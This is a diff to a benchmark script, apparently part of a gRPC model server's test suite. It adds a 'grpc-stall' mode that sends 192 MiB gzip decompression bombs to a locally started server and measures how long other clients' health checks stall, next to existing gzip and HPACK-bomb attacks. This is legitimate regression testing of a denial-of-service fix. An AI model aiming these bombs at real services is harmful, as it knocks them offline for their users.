@@ -2,6 +2,7 @@
 
     PYTHONPATH=src python benchmarks/issue27_attacks.py gzip-unary   # 4 x 128 MiB gzip messages on one unary call
     PYTHONPATH=src python benchmarks/issue27_attacks.py hpack        # 4 connections x 3 HPACK-bomb HEADERS frames
+    PYTHONPATH=src python benchmarks/issue27_attacks.py grpc-stall   # 4 x 192 MiB gzip bombs; other clients' stall
 
 Run it once with the code before a fix on PYTHONPATH and once after; it prints one line per run.
 """
@@ -78,10 +79,48 @@ def hpack_bomb(proc: ServerProcess) -> str:
     return "12 HEADERS frames of 16 KB, each ~48 MB decoded"
 
 
+STALL_LIMIT = 192 * 1024 * 1024
+
+
+def grpc_stall(proc: ServerProcess) -> str:
+    bomb = gzip.compress(b"\0" * (STALL_LIMIT - 1024), 1)
+    framed = struct.pack(">BI", 1, len(bomb)) + bomb
+    stalls: list[float] = []
+    stop = threading.Event()
+
+    def probe() -> None:
+        with RawGrpcConnection(proc.grpc_port) as other:
+            other.handshake()
+            while not stop.is_set():
+                began = time.monotonic()
+                other.unary("/grpc.health.v1.Health/Check", b"", wait_s=60)
+                stalls.append(time.monotonic() - began)
+                time.sleep(0.005)
+
+    prober = threading.Thread(target=probe, daemon=True)
+    prober.start()
+    time.sleep(0.3)
+    began = time.monotonic()
+    conns = [RawGrpcConnection(proc.grpc_port).handshake() for _ in range(4)]
+    streams = []
+    for conn in conns:
+        stream_id = conn.start_call(MODEL_INFER, extra=(("grpc-encoding", "gzip"),))
+        conn.send_data(stream_id, framed)
+        streams.append(stream_id)
+    for conn, stream_id in zip(conns, streams, strict=True):
+        conn.wait(stream_id, 120)
+        conn.close()
+    took = time.monotonic() - began
+    stop.set()
+    prober.join(60)
+    return f"4 bombs inflated in {took:.2f} s; longest health-check stall {max(stalls):.3f} s ({len(stalls)} probes)"
+
+
 def main() -> None:
-    attack = {"gzip-unary": gzip_unary, "hpack": hpack_bomb}[sys.argv[1]]
+    attack = {"gzip-unary": gzip_unary, "hpack": hpack_bomb, "grpc-stall": grpc_stall}[sys.argv[1]]
+    extra = ["--grpc-max-message-size", str(STALL_LIMIT)] if sys.argv[1] == "grpc-stall" else []
     repo = write_repository(Path(tempfile.mkdtemp()))
-    with ServerProcess(repo, grpc_frontend="native") as proc:
+    with ServerProcess(repo, *extra, grpc_frontend="native") as proc:
         assert proc.proc is not None
         time.sleep(0.5)
         before = rss(proc.proc.pid)
